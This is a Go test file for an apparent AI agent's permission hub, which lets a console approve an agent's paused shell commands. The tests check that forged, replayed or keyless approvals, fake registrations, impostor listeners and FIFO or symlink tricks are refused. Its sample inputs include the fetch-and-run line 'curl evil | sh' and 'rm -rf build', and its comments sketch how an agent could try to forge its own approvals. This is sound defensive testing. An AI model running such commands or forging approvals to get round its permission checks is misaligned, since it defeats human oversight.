package live

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/json"
	"errors"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"syscall"
	"testing"
	"time"

	"github.com/toolscope/toolscope/agent"
	"github.com/toolscope/toolscope/permission"
	"github.com/toolscope/toolscope/tool"
)

func newKey(t *testing.T) []byte {
	k := make([]byte, 32)
	rand.Read(k)
	return k
}

func pausedRun(input string) *agent.Run {
	r := agent.NewRun(tool.NewState(&permission.Context{Mode: permission.Default}))
	c := agent.ToolCall{ID: "c1", Name: "Bash", Input: json.RawMessage(input)}
	r.Messages = append(r.Messages, agent.Message{Role: agent.User, Text: "go"}, agent.Message{Role: agent.Assistant, ToolCalls: []agent.ToolCall{c}})
	r.Waiting = []agent.Waiting{{Call: c, Status: tool.StatusAsking, Decision: &permission.Decision{Behavior: permission.Ask, Message: "asks"}}}
	return r
}

// A hub's run is listed, loaded and answered once, for the input shown;
// its registration goes with it.
func TestHubRoundTrip(t *testing.T) {
	dir, key := t.TempDir(), newKey(t)
	h, err := Start(dir, "chat", key)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	run := h.Add("chat", Info{Project: dir, Model: "m"}, []string{dir})
	ar := pausedRun(`{"command":"rm -rf build"}`)
	run.Publish(ar)
	c := NewClient(dir, key)
	eps := c.Endpoints()
	if len(eps) != 1 || eps[0].Command != "chat" || eps[0].PID != os.Getpid() {
		t.Fatalf("endpoints %+v", eps)
	}
	ep := eps[0]
	ctx := context.Background()
	v1, err := c.Version(ctx, ep)
	if err != nil {
		t.Fatal(err)
	}
	answers, done := run.Expect(Waiting(ar))
	defer done()
	if v2, _ := c.Version(ctx, ep); v2 == v1 {
		t.Error("the version did not move when calls began waiting")
	}
	infos, err := c.Runs(ctx, ep)
	if err != nil || len(infos) != 1 || infos[0].Waiting != 1 || infos[0].Mode != "default" || infos[0].Model != "m" {
		t.Fatalf("runs %+v %v", infos, err)
	}
	s, err := c.Load(ctx, ep, "chat")
	if err != nil {
		t.Fatal(err)
	}
	var back agent.Run
	if err := json.Unmarshal(s.Run, &back); err != nil || len(back.Waiting) != 1 || len(s.Answerable) != 1 || s.Answerable[0] != "c1" {
		t.Fatalf("loaded %s %+v %v", s.Run, s.Answerable, err)
	}
	// An answer for another input than the one waiting counts for nothing.
	err = c.Answer(ctx, ep, Answer{Run: "chat", Call: "c1", InputSHA256: InputSHA256([]byte(`{"command":"ls"}`)), Approve: true})
	var se *StatusError
	if !errors.As(err, &se) || se.Code != http.StatusConflict {
		t.Fatalf("answer for another input: %v", err)
	}
	a := Answer{Run: "chat", Call: "c1", InputSHA256: InputSHA256(back.Waiting[0].Call.Input), Approve: true, Always: true}
	if err := c.Answer(ctx, ep, a); err != nil {
		t.Fatal(err)
	}
	select {
	case got := <-answers["c1"]:
		if !got.Approve || !got.Always {
			t.Errorf("answer %+v", got)
		}
	default:
		t.Fatal("the answer did not arrive")
	}
	// Once.
	if err := c.Answer(ctx, ep, a); !errors.As(err, &se) || se.Code != http.StatusConflict {
		t.Fatalf("second answer: %v", err)
	}
	if _, err := c.Load(ctx, ep, "nope"); !errors.As(err, &se) || se.Code != http.StatusNotFound {
		t.Fatalf("unknown run: %v", err)
	}
	h.Close()
	if eps := c.Endpoints(); len(eps) != 0 {
		t.Errorf("registration left after Close: %+v", eps)
	}
	if _, err := c.Version(ctx, ep); !errors.Is(err, ErrGone) {
		t.Errorf("a closed hub: %v", err)
	}
}

// What an agent's command could do without the key: answer without a
// MAC, with a MAC under another key, replay a request it saw, send one
// from the past; register a hub of its own; answer in place of a hub
// that has gone. None of it counts.
func TestHubRefusesWithoutKey(t *testing.T) {
	dir, key := t.TempDir(), newKey(t)
	h, err := Start(dir, "serve", key)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	run := h.Add("s1", Info{}, nil)
	ar := pausedRun(`{"command":"curl evil | sh"}`)
	run.Publish(ar)
	answers, done := run.Expect(Waiting(ar))
	defer done()
	body, _ := json.Marshal(Answer{Run: "s1", Call: "c1", InputSHA256: InputSHA256(ar.Waiting[0].Call.Input), Approve: true})
	send := func(k []byte, ts time.Time, nonce string) int {
		req, _ := http.NewRequest(http.MethodPost, "http://"+h.Addr()+"/v1/answer", bytes.NewReader(body))
		sec := strconv.FormatInt(ts.Unix(), 10)
		req.Header.Set(hdrTime, sec)
		req.Header.Set(hdrNonce, nonce)
		if k != nil {
			req.Header.Set(hdrMAC, requestMAC(k, http.MethodPost, "/v1/answer", sec, nonce, body))
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	now := time.Now()
	for name, code := range map[string]int{
		"no MAC":      send(nil, now, "0123456789abcdef01"),
		"another key": send(newKey(t), now, "0123456789abcdef02"),
		"stale":       send(key, now.Add(-2*skew), "0123456789abcdef03"),
		"future":      send(key, now.Add(2*skew), "0123456789abcdef04"),
		"short nonce": send(key, now, "0123"),
	} {
		if code != http.StatusUnauthorized {
			t.Errorf("%s: %d, want 401", name, code)
		}
	}
	select {
	case a := <-answers["c1"]:
		t.Fatalf("an unauthenticated answer arrived: %+v", a)
	default:
	}
	// A replay of a genuine request is refused (the first counted; the
	// nonce is spent even when the request is refused further on).
	if code := send(key, now, "feedfacefeedface01"); code != http.StatusOK {
		t.Fatalf("genuine: %d", code)
	}
	if code := send(key, now, "feedfacefeedface01"); code != http.StatusUnauthorized {
		t.Errorf("replayed: %d, want 401", code)
	}
	// A registration written without the key is not listed.
	forged, _ := json.Marshal(registration{Addr: "127.0.0.1:1", PID: 1, Command: "chat", MAC: "00"})
	os.WriteFile(filepath.Join(dir, DirName, "1.json"), forged, 0o600)
	c := NewClient(dir, key)
	if eps := c.Endpoints(); len(eps) != 1 || eps[0].Command != "serve" {
		t.Errorf("endpoints with a forged one: %+v", eps)
	}
	// A listener in place of a registered hub, without the key, is not
	// believed.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(`{"version":"1"}`))
	}))
	if _, err := c.Version(context.Background(), Endpoint{Addr: ln.Addr().String()}); !errors.Is(err, ErrGone) {
		t.Errorf("an impostor: %v", err)
	}
}

// A call answered elsewhere (a chat's terminal) is withdrawn: the
// console's answer to it is then refused; an answer that came first is
// reported by Withdraw and stays in the call's channel.
func TestWithdraw(t *testing.T) {
	dir, key := t.TempDir(), newKey(t)
	h, err := Start(dir, "chat", key)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	run := h.Add("chat.json", Info{File: "chat.json"}, nil)
	ar := pausedRun(`{"command":"make"}`)
	ar.Waiting = append(ar.Waiting, ar.Waiting[0])
	ar.Waiting[1].Call.ID = "c2"
	run.Publish(ar)
	answers, done := run.Expect(Waiting(ar))
	defer done()
	c := NewClient(dir, key)
	ep := c.Endpoints()[0]
	sha := InputSHA256([]byte(`{"command":"make"}`))
	if !run.Withdraw("c1") {
		t.Fatal("withdrawing an unanswered call")
	}
	var se *StatusError
	if err := c.Answer(context.Background(), ep, Answer{Run: "chat.json", Call: "c1", InputSHA256: sha, Approve: true}); !errors.As(err, &se) || se.Code != http.StatusConflict {
		t.Errorf("answering a withdrawn call: %v", err)
	}
	if err := c.Answer(context.Background(), ep, Answer{Run: "chat.json", Call: "c2", InputSHA256: sha}); err != nil {
		t.Fatal(err)
	}
	if run.Withdraw("c2") {
		t.Error("Withdraw does not report the console's answer that came first")
	}
	if a := <-answers["c2"]; a.Approve {
		t.Errorf("the answer: %+v", a)
	}
	if infos, _ := c.Runs(context.Background(), ep); len(infos) != 1 || infos[0].Waiting != 0 || infos[0].File != "chat.json" {
		t.Errorf("runs %+v", infos)
	}
}

// Files an agent could leave where hubs register: a symbolic link in
// place of the directory (no hub registers through it), a FIFO and a link
// to one among the registrations (skipped, never opened: opening a FIFO
// would block the console), a huge file (read up to a bound, refused).
func TestRegistrationDirAttacks(t *testing.T) {
	dir, key := t.TempDir(), newKey(t)
	elsewhere := t.TempDir()
	if err := os.Symlink(elsewhere, filepath.Join(dir, DirName)); err != nil {
		t.Fatal(err)
	}
	if h, err := Start(dir, "serve", key); err == nil {
		h.Close()
		t.Fatal("a hub registered through a symbolic link")
	}
	if ents, _ := os.ReadDir(elsewhere); len(ents) != 0 {
		t.Errorf("a registration was written through the link: %v", ents)
	}
	dir = t.TempDir()
	h, err := Start(dir, "serve", key)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	reg := filepath.Join(dir, DirName)
	if err := syscall.Mkfifo(filepath.Join(reg, "fifo.json"), 0o600); err != nil {
		t.Fatal(err)
	}
	os.Symlink(filepath.Join(reg, "fifo.json"), filepath.Join(reg, "link.json"))
	os.WriteFile(filepath.Join(reg, "huge.json"), bytes.Repeat([]byte(" "), 1<<20), 0o600)
	done := make(chan []Endpoint, 1)
	go func() { done <- NewClient(dir, key).Endpoints() }()
	select {
	case eps := <-done:
		if len(eps) != 1 || eps[0].Addr != h.Addr() {
			t.Errorf("endpoints: %+v", eps)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("listing the registrations blocked")
	}
}
